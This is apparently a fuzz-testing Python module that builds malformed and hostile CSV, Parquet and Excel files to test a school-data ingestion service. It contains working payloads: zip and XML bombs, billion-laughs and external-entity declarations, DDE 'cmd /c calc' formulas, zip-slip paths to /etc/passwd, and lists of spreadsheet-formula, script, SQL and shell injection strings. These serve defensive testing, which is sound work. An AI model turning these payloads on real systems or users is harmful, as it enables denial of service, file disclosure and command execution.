"""CSV, Parquet and workbooks made to fill memory, to run something, or to show what is not there."""

import io
import random
import re
import struct
import unicodedata
import zipfile
from functools import cache
from pathlib import Path

from .attacks import EITHER, Place, attack

HEADER = "urn,upn,date,session,code\n"
MARKS = "100001,W890200025001,2025-09-02,AM,/\n"
MB = 1_000_000

_CORPUS = Path(__file__).parent / "corpus"


def _blocks(size: int, what: bytes) -> list[bytes]:
    return [(what * (MB // len(what) + 1))[:MB]] * (size // MB)


# CSV


@attack("csv: a million columns")
def _columns(place: Place, chance: random.Random):
    many, separator = chance.choice((1_001, 100_000, 1_000_000)), chance.choice(",;\t|")
    headers = separator.join((f"c{at}" if chance.random() < 0.5 else "") for at in range(many))
    place.write(".csv", HEADER.strip().replace(",", separator) + separator + headers + "\n" + MARKS * 100)


@attack("csv: rows of a mark and a thousand cells not filled", EITHER)
def _unfilled(place: Place, chance: random.Random):
    """As many cells as there may be for its bytes: each takes room, filled or not, in whatever is read of it at once."""
    more = "".join(f",x{at}" for at in range(990))
    cell = "x" * chance.choice((64, 80))
    rows = (f"100001,W8902000{at:05},2025-09-02,AM,/,{cell}\n" for at in range(10_000))
    place.write(".csv", HEADER.strip() + more + "\n" + "".join(rows))


@attack("csv: a million headers alike")
def _alike(place: Place, chance: random.Random):
    many = chance.choice((3, 900, 1_000_000))
    place.write(".csv", HEADER.strip() + f",{chance.choice(('upn', 'code', 'date'))}" * many + "\n" + MARKS * 10)


@attack("csv: a line of 1 GB", is_heavy=True)
def _line(place: Place, chance: random.Random):
    what = chance.choice((b"x", b",", b"a,", b" ", b'"'))
    start = chance.choice((HEADER + MARKS + "100001,", HEADER, "")).encode()
    place.write(".csv", [start, *_blocks(chance.choice((20, 200, 1_000)) * MB, what)])


@attack("csv: a quotation never closed", is_heavy=True)
def _quote(place: Place, chance: random.Random):
    begins = HEADER + MARKS * 10 + '100001,"W89'
    place.write(".csv", [begins.encode(), *_blocks(chance.choice((1, 50, 300)) * MB, MARKS.encode())])


@attack("csv: quotations without number")
def _quotes(place: Place, chance: random.Random):
    place.write(".csv", [HEADER.encode(), *_blocks(20 * MB, chance.choice((b'"', b'",', b'"\n', b'""\n', b'"a"b,')))])


@attack("csv: NULs")
def _nuls(place: Place, chance: random.Random):
    place.write(".csv", HEADER + MARKS * chance.choice((1, 100_000)) + "100001,W8\0,,,\n" + MARKS)


@attack("csv: a billion empty lines", is_heavy=True)
def _empty_lines(place: Place, chance: random.Random):
    what = chance.choice((b"\n", b"\r\n", b",\n", b",,,,\n", b" \n", b"\r", b"0\n"))
    place.write(".csv", [chance.choice((HEADER, "")).encode(), *_blocks(chance.choice((60, 300, 1_000)) * MB, what)])


@attack("csv: a field of 100 MB", is_heavy=True)
def _field(place: Place, chance: random.Random):
    size = chance.choice((17, 100))
    place.write(".csv", [HEADER.encode(), b'100001,"', *_blocks(size * MB, b"x"), b'",2025-09-02,AM,/\n'])


@attack("csv: marks of an order in the middle", EITHER)
def _marks_within(place: Place, chance: random.Random):
    place.write(
        ".csv", HEADER.replace("upn", "\ufeffupn") + MARKS.replace("W", "\ufeffW") * 5 + "\ufeff" + HEADER + "\ufffe\n"
    )


@attack("csv: several encodings at once", EITHER)
def _encodings(place: Place, chance: random.Random):
    parts = [
        HEADER.encode(),
        *(
            MARKS.replace(",/", ",é€/").encode(how, "replace")
            for how in ("utf-8", "cp1252", "utf-16", "utf-16-be", "utf-32")
        ),
    ]
    chance.shuffle(parts[1:])
    place.write(".csv", b"".join(parts))


@attack("csv: bytes that are no letter", EITHER)
def _overlong(place: Place, chance: random.Random):
    bad = chance.choice((b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xff\xfe\xfd", b"\xe2\x80"))
    place.write(".csv", HEADER.encode() + MARKS.encode().replace(b"W", bad) * 100)


@attack("csv: ends of line of every kind", EITHER)
def _ends(place: Place, chance: random.Random):
    rows = "".join(
        MARKS.strip() + chance.choice(("\n", "\r\n", "\r", "\n\r", "\x0b", "\x0c", "\x85", "\u2028"))
        for _ in range(500)
    )
    place.write(".csv", HEADER + rows)


@attack("csv: rows with more and more cells")
def _ragged(place: Place, chance: random.Random):
    place.write(".csv", HEADER + "".join(MARKS.strip() + ",x" * at + "\n" for at in range(1, 2_500)))


# Parquet


def _parquet(table, **how) -> bytes:
    import pyarrow.parquet as files

    held = io.BytesIO()
    files.write_table(table, held, **how)
    return held.getvalue()


def _marks_table(rows: int = 50):
    import pyarrow as pa

    told = zip(HEADER.strip().split(","), MARKS.strip().split(","), strict=True)
    return pa.table({name: [value] * rows for name, value in told})


@attack("parquet: sizes that lie", EITHER)
def _pages(place: Place, chance: random.Random):
    """Of pages and of the heading at its end, some bytes are others: each tells of a size, a place or a number."""
    content = bytearray(_parquet(_marks_table()))
    ends = len(content) - 8
    begins = ends - struct.unpack("<L", content[-8:-4])[0]
    within = chance.choice((range(4, begins), range(begins, ends)))
    for _ in range(chance.choice((1, 2, 8))):
        content[chance.choice(within)] = chance.choice((0, 0x7F, 0x80, 0xFF, chance.randrange(256)))
    place.write(".parquet", bytes(content))


@attack("parquet: a thousand levels deep")
def _levels(place: Place, chance: random.Random):
    import pyarrow as pa

    kind, value = pa.int8(), 1
    for at in range(chance.choice((2, 40, 80))):
        kind, value = (pa.list_(kind), [value]) if at % 2 else (pa.struct([("a", kind)]), {"a": value})
    place.write(".parquet", _parquet(pa.table({"upn": pa.array([value], kind)})))


@attack("parquet: a billion rows in a few bytes")
def _rows(place: Place, chance: random.Random):
    import pyarrow as pa

    many = chance.choice((25_000_000, 50_000_000))
    told = zip(HEADER.strip().split(","), MARKS.strip().split(","), strict=True)
    numbers = pa.Array.from_buffers(pa.int8(), many, [None, pa.py_buffer(bytes(many))])
    table = pa.table({name: pa.DictionaryArray.from_arrays(numbers, pa.array([value])) for name, value in told})
    place.write(".parquet", _parquet(table, compression="zstd"))


@attack("parquet: a text as long as a book, in every row")
def _dictionary(place: Place, chance: random.Random):
    import pyarrow as pa

    numbers = pa.array([0] * 200_000, pa.int32())
    long = chance.choice(("x" * 10_000, "x" * 1_000_000))
    columns = {name: pa.DictionaryArray.from_arrays(numbers, [long]) for name in HEADER.strip().split(",")}
    place.write(".parquet", _parquet(pa.table(columns), compression="zstd"))


@attack("parquet: a bomb")
def _unpacking(place: Place, chance: random.Random):
    import pyarrow as pa

    how = chance.choice(("snappy", "zstd", "gzip", "brotli"))
    texts = [chance.choice("xyz") * chance.choice((100, 130)) * MB]
    columns = {name: pa.array(texts, pa.large_string()) for name in HEADER.strip().split(",")[:2]}
    place.write(".parquet", _parquet(pa.table(columns), compression=how, use_dictionary=False))


@attack("parquet: a heading that is none")
def _thrift(place: Place, chance: random.Random):
    size = chance.choice((10, 10_000, 20 * MB))
    heading = chance.choice(
        (
            b"\x1c",
            b"\x19\xfc",
            b"\xff",
            b"\x18",
            b"\x15\x02\x19\x5c",
            b"\x1b\xff\xff\xff\xff\x0f\xcc",
            bytes([chance.randrange(256) for _ in range(50)]),
        )
    )
    heading = (heading * (size // len(heading) + 1))[:size]
    said = chance.choice((len(heading), len(heading), 2**31 - 1, 2**32 - 1, 0))
    place.write(".parquet", b"PAR1" + heading + struct.pack("<L", said) + b"PAR1")


# Workbooks


@cache
def _parts() -> dict[str, bytes]:
    """Those of a workbook of marks, as a spreadsheet program writes it."""
    import xlsxwriter

    held = io.BytesIO()
    with xlsxwriter.Workbook(held, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Sheet1")
        for at, line in enumerate([HEADER, MARKS, MARKS.replace("AM", "PM")]):
            sheet.write_row(at, 0, line.strip().split(","))
    with zipfile.ZipFile(io.BytesIO(held.getvalue())) as package:
        return {name: package.read(name) for name in package.namelist()}


def _packed(parts: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return held.getvalue()


SHEET, BOOK, RELS, TYPES, TEXTS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml", "xl/sharedStrings.xml"  # fmt: skip
MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WITH_MACROS = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"


@attack("xlsx: macros")
def _macros(place: Place, chance: random.Random):
    parts = dict(_parts())
    how = chance.choice(("part", "elsewhere", "type", "sheet", "type spelt", "relationship spelt"))
    if how == "type spelt":
        parts[TYPES] = parts[TYPES].replace(MAIN, WITH_MACROS.replace(b"E", b"&#69;"))
    if how == "relationship spelt":
        told = b'<Relationship Id="of" Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="code.dat"/>'
        parts[RELS] = parts[RELS].replace(b"</Relationships>", told + b"</Relationships>")
        parts["xl/code.dat"] = b"\xd0\xcf\x11\xe0" + bytes(5_000)
    if how in ("part", "elsewhere"):
        parts["xl/vbaProject.bin" if how == "part" else "xl/Other/VBAproject.BIN"] = b"\xd0\xcf\x11\xe0" + bytes(5_000)
    if how == "sheet":
        parts["xl/macrosheets/sheet1.xml"] = (
            b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
        )
    if how in ("type", "part"):
        parts[TYPES] = parts[TYPES].replace(MAIN, WITH_MACROS)
    place.write(chance.choice((".xlsx", ".xlsm", ".csv")), _packed(parts))


@attack("xlsx: what other workbooks say")
def _external(place: Place, chance: random.Random):
    where = chance.choice((f"{place.url}/other.xlsx", "\\\\host\\share\\other.xlsx", f"file://{place.canary}"))
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="{where}" TargetMode="External"/></Relationships>'
    dde = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    book = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>'
    folder, name = chance.choice((("externalLinks", "externalLink1"), ("other", "link1")))
    parts = _parts() | {
        f"xl/{folder}/{name}.xml": chance.choice((dde, book)),
        f"xl/{folder}/_rels/{name}.xml.rels": rels.encode(),
    }
    told = '<Relationship Id="of" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="%s/%s.xml"/>'
    parts[RELS] = parts[RELS].replace(b"</Relationships>", (told % (folder, name)).encode() + b"</Relationships>")
    parts[BOOK] = parts[BOOK].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="of"/></externalReferences>'
    )
    parts[SHEET] = re.sub(rb"<c (r=\"B2\"[^>]*)><v>", rb"<c \1><f>[1]Sheet1!A1</f><v>", parts[SHEET], count=1)
    place.write(".xlsx", _packed(parts))


@attack("xlsx: links, and what to fetch", EITHER)
def _hyperlinks(place: Place, chance: random.Random):
    parts = dict(_parts())
    link = b'<hyperlinks><hyperlink ref="A1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId9"/></hyperlinks>'
    parts[SHEET] = parts[SHEET].replace(b"</worksheet>", link + b"</worksheet>")
    kind, way = chance.choice((("hyperlink", ""), ("image", ""), ("attachedTemplate", ""), ("oleObject", "")))
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.'
        f'openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{place.url}/{way}" TargetMode="External"/></Relationships>'
    ).encode()
    place.write(".xlsx", _packed(parts))


@attack("xlsx: formulas", EITHER)
def _formulas(place: Place, chance: random.Random):
    said = chance.choice(
        (f'WEBSERVICE("{place.url}")', "cmd|'/c calc'!A1", f'HYPERLINK("{place.url}","x")', "1/0", "A1")
    )
    parts = dict(_parts())
    formula = f"<f>{said.replace(chr(34), '&quot;')}</f><v>".encode()
    parts[SHEET] = re.sub(rb"(<c r=\"[A-E]2\"[^>]*>)<v>", lambda cell: cell[1] + formula, parts[SHEET])
    place.write(".xlsx", _packed(parts))


@attack("xlsx: all the cells there can be")
def _reach(place: Place, chance: random.Random):
    far = chance.choice(('<row r="1048576"><c r="XFD1048576" t="str"><v>x</v></c></row>', '<row r="1048576"><c r="A1048576"><v>1</v></c></row><row r="1048577"><c r="XFD1048577"><v>1</v></c></row>',
                         '<row r="99999999"><c r="ZZZ99999999"><v>1</v></c></row>', '<row><c r="XFD2000000000"><v>1</v></c></row>'))  # fmt: skip
    parts = dict(_parts())
    parts[SHEET] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[SHEET])
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", far.encode() + b"</sheetData>")
    place.write(".xlsx", _packed(parts))


@attack("xlsx: texts that cells share")
def _shared(place: Place, chance: random.Random):
    how = chance.choice(("long", "many", "laughs", "endless"))
    parts = dict(_parts())
    texts, cells = parts[TEXTS], b""
    if how == "long":
        texts = texts.replace(b"</sst>", b"<si><t>" + b"x" * 32_000 + b"</t></si></sst>")
        cells = b"".join(
            b'<row r="%d"><c r="A%d" t="s"><v>%d</v></c></row>' % (at, at, texts.count(b"<si>") - 1)
            for at in range(4, 60_000)
        )
    elif how == "many":
        texts = texts.replace(b"</sst>", b"<si><t>x</t></si>" * 7_000_000 + b"</sst>")
    elif how == "laughs":
        texts = (
            b'<!DOCTYPE sst [<!ENTITY a "lol"><!ENTITY b "'
            + b"&a;" * 1_000
            + b'">]>'
            + texts[texts.index(b"<sst") :].replace(b"</sst>", b"<si><t>" + b"&b;" * 1_000 + b"</t></si></sst>")
        )
    else:
        texts = texts.replace(b"</sst>", b"<si><t>" + b"x" * 90 * MB)
    parts[TEXTS], parts[SHEET] = texts, parts[SHEET].replace(b"</sheetData>", cells + b"</sheetData>")
    place.write(".xlsx", _packed(parts))


@attack("xlsx: a million sheets")
def _sheets(place: Place, chance: random.Random):
    many = chance.choice((1_500, 20_000, 1_000_000))
    parts = dict(_parts())
    listed = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (at, at) for at in range(2, many))
    parts[BOOK] = parts[BOOK].replace(b"</sheets>", listed + b"</sheets>")
    place.write(".xlsx", _packed(parts))


@attack("xlsx: texts with nothing in them")
def _texts_of_nothing(place: Place, chance: random.Random):
    """In a list of them that takes long to go through; and something beside it that is not packed, so that the whole grows by little."""
    parts = dict(_parts())
    one = chance.choice((b"<si><t/></si>", b"<si/>", b"<si><r><t/></r></si>"))
    parts[TEXTS] = parts[TEXTS].replace(b"</sst>", one * (96 * MB // len(one)) + b"</sst>")
    place.write(".xlsx", _packed(parts | {"xl/media/image1.png": chance.randbytes(1_500_000)}))


def book_of_sheets(many: int, texts: int = 0) -> bytes:
    """A workbook of so many sheets of marks, and of so many texts to which no cell refers."""
    parts, listed, placed = dict(_parts()), b"", b""
    for at in range(2, many + 1):
        parts[f"xl/worksheets/sheet{at}.xml"] = parts[SHEET]
        listed += b'<sheet name="S%d" sheetId="%d" r:id="of%d"/>' % (at, at, at)
        placed += b'<Relationship Id="of%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet%d.xml"/>' % (at, at)  # fmt: skip
    more = b"".join(b"<si><t>%d</t></si>" % at for at in range(texts))
    parts[TEXTS] = parts[TEXTS].replace(b"</sst>", more + b"</sst>")
    parts[BOOK] = parts[BOOK].replace(b"</sheets>", listed + b"</sheets>")
    parts[RELS] = parts[RELS].replace(b"</Relationships>", placed + b"</Relationships>")
    return _packed(parts)


@attack("xlsx: hundreds of sheets, and texts that none refers to", EITHER)
def _many_sheets(place: Place, chance: random.Random):
    place.write(".xlsx", book_of_sheets(300, chance.choice((200_000, 400_000))))


@attack("xlsx: many workbooks of many sheets")
def _many_books(place: Place, chance: random.Random):
    book = book_of_sheets(chance.choice((60, 300)))
    place.write(".zip", _packed({f"{at}.xlsx": book for at in range(6)}))


@attack("xlsx: billion laughs")
def _laughs(place: Place, chance: random.Random):
    part = chance.choice((SHEET, BOOK, RELS, TEXTS, "xl/styles.xml"))
    parts = dict(_parts())
    said = "".join(f'<!ENTITY l{at + 1} "{f"&l{at};" * 10}">' for at in range(12))
    canary = f'<!ENTITY l0 SYSTEM "file://{place.canary}">' if chance.random() < 0.4 else '<!ENTITY l0 "lol">'
    text, begins = parts[part].decode(), parts[part].decode().index("?>") + 2
    root = re.search(r"<(\w+)", text[begins:])[1]
    text = f"{text[:begins]}<!DOCTYPE {root} [{canary}{said}]>{text[begins:]}"
    parts[part] = (
        text.replace("<v>", "<v>&l12;", 1).replace("<t>", "<t>&l12;", 1)
        if part in (SHEET, TEXTS)
        else text.replace(f"</{root}>", f"&l12;</{root}>")
    ).encode()
    if chance.random() < 0.3 and part != "xl/styles.xml":
        parts[part] = (
            parts[part].decode().encode("utf-16")
        )  # in which nobody sees the declaration who looks for its letters
    place.write(".xlsx", _packed(parts))


@attack("xlsx: parts that lead elsewhere", EITHER)
def _slip(place: Place, chance: random.Random):
    parts = _parts() | {"../../../evil.png": b"x", "/etc/evil": b"x", "xl/media/..\\..\\evil.exe": b"MZ"}
    parts[RELS] = re.sub(
        rb'Target="worksheets/sheet1.xml"',
        chance.choice((b'Target="../../../../etc/passwd"', b'Target="/etc/passwd"', b'Target="worksheets/sheet1.xml"')),
        parts[RELS],
    )
    place.write(".xlsx", _packed(parts))


@attack("xlsx: the old kind, or a password")
def _old(place: Place, chance: random.Random):
    content = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(20_000)
        + chance.choice(("EncryptedPackage", "Workbook", "_VBA_PROJECT")).encode("utf-16-le")
    )
    place.write(chance.choice((".xls", ".xlsx", ".xlsm")), content)


@attack("xlsx: cells without number")
def _cells(place: Place, chance: random.Random):
    parts = dict(_parts())
    cell = chance.choice((b"<c/>", b'<c r="A1"/>', b'<c r="A9"><v>1</v></c>', b'<x:c r="A1"/>', b'<row r="9"/>'))
    parts[SHEET] = parts[SHEET].replace(
        b"</sheetData>", cell * chance.choice((5_000_000, 12_000_000)) + b"</sheetData>"
    )
    place.write(".xlsx", _packed(parts))


# Texts, in every cell that is a text


FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://127.0.0.1/?"&A1,"x")', "\uff1d1+1",
    "\uff0b1", "\uff20SUM(1)", "=IMPORTXML(1,2)", ' =1+1', "'=1+1", '"=1+1', "%0A=1+1", "=DDE(\"cmd\";\"/c calc\";\"x\")",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "{% raw %}", "${7*7}", "</script><script>", "<svg/onload=alert(1)>", "&lt;b&gt;",
    "'; DROP TABLE staged.pupils; --", "%s%n%x", "{0.__class__}", "\\N{BULLET}", "$(touch /tmp/x)", "`id`", "../../x", "file:///etc/passwd", "_x000D_", "]]>", "<!--",
)  # fmt: skip
TRICKS = (
    "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeff", "\u200d" * 50, "e" + "\u0301" * 5_000, "\ud800", "\U000e0041", "\ue000", "\x1b[2J", "\x1b]0;owned\x07", "\x9b31m", "\x00", "\x08" * 9, "\x7f",
    "\u0131I\u0130i", "\u043e\u0440", unicodedata.normalize("NFD", "é"), "\ufdfa" * 500, "\u2028", "x" * 50_000, "👩‍👩‍👧‍👦" * 99, "\U0001f1ec" * 999, "ﷺ", "\u0000", "\r\nSet-Cookie: a=b", "\u0085", "ＡＢＣ",
)  # fmt: skip
_TABLES = ("schools.csv", "pupils_100001.csv", "suspensions.csv", "support_and_reviews.csv", "wider_needs.csv", "sen2_person.csv", "attendance_marks_100001.csv", "2025_autumn_school.csv", "ssda903_header.csv")  # fmt: skip


def _strewn(texts: tuple[str, ...], place: Place, chance: random.Random) -> None:
    """A good table in half of whose cells, or in the one that names something, such a text stands before what was there, or alone."""
    rows = [line.split(",") for line in (_CORPUS / chance.choice(_TABLES)).read_text(encoding="utf-8-sig").splitlines()]
    for row in rows[1:]:
        for at, cell in enumerate(row):
            if chance.random() < chance.choice((0.1, 0.9)):
                told = chance.choice(texts) + chance.choice(("", cell))
                row[at] = '"' + told.replace('"', '""') + '"'
    place.write(".csv", "\n".join(map(",".join, rows)) + "\n")


@attack("texts: formulas", EITHER)
def _of_formulas(place: Place, chance: random.Random):
    _strewn(FORMULAS, place, chance)


@attack("texts: markup and commands", EITHER)
def _of_markup(place: Place, chance: random.Random):
    _strewn(MARKUP, place, chance)


@attack("texts: letters that deceive", EITHER)
def _of_tricks(place: Place, chance: random.Random):
    _strewn(TRICKS, place, chance)


@attack("texts: headers that deceive")
def _headers(place: Place, chance: random.Random):
    instead = chance.choice(
        (
            "u\u0440n",
            "\u202enpu",
            "UP\u0418",
            "\x1b[31mupn\x1b[0m",
            "<b>upn",
            "u" * 40_000,
            "\ud800",
            "\x00upn",
            "dat\u0435",
            "e\u0301" * 3_000,
        )
    )
    place.write(".csv", HEADER.replace("upn", instead) + MARKS)


@attack("texts: headers with more in them than is seen", EITHER)
def _headers_with_more(place: Place, chance: random.Random):
    """Headers match by their letters and figures alone, so that these are what they look like."""
    instead = chance.choice(
        ("=upn()", "u\u200bpn\u0301", "@upn", "+UPN", "\ufeffupn", "upn\u202c", "\u0430upn", '"=upn"')
    )
    place.write(".csv", HEADER.replace("upn", instead) + MARKS)
